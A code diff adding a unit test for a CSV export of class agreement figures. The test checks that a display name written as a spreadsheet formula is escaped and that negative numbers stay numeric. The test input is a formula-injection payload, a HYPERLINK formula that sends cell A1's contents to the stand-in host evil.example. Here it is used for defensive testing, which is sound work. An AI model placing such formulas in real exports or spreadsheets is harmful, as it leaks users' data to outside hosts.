@@ -145,4 +145,13 @@ describe('classAgreementCsv', () => {
     expect(Number(alpha[0][1])).toBeCloseTo(-8 / 77, 12);
     expect(Number(alpha[1][1])).toBeCloseTo(-1 / 16, 12);
   });
+
+  it('neutralizes a display name that is a formula, and keeps negative figures numbers', () => {
+    const evil = [{ ...students[0], name: '-aki', displayName: '=HYPERLINK("http://evil.example/?"&A1,"Aki")' }, ...students.slice(1)];
+    const csv = classAgreementCsv(classAgreement({ reference: null, students: evil, tokens, labels: ['claim'] }), { bom: false });
+    const lines = csv.split('\r\n');
+    expect(lines[1].startsWith(`student,'-aki,"'=HYPERLINK(""http://evil.example/?""&A1,""Aki"")",`)).toBe(true);
+    expect(lines.find((l) => l.startsWith('alpha,'))!.split(',').at(-1)).toMatch(/^-0\.\d+$/);
+  });
 });
+
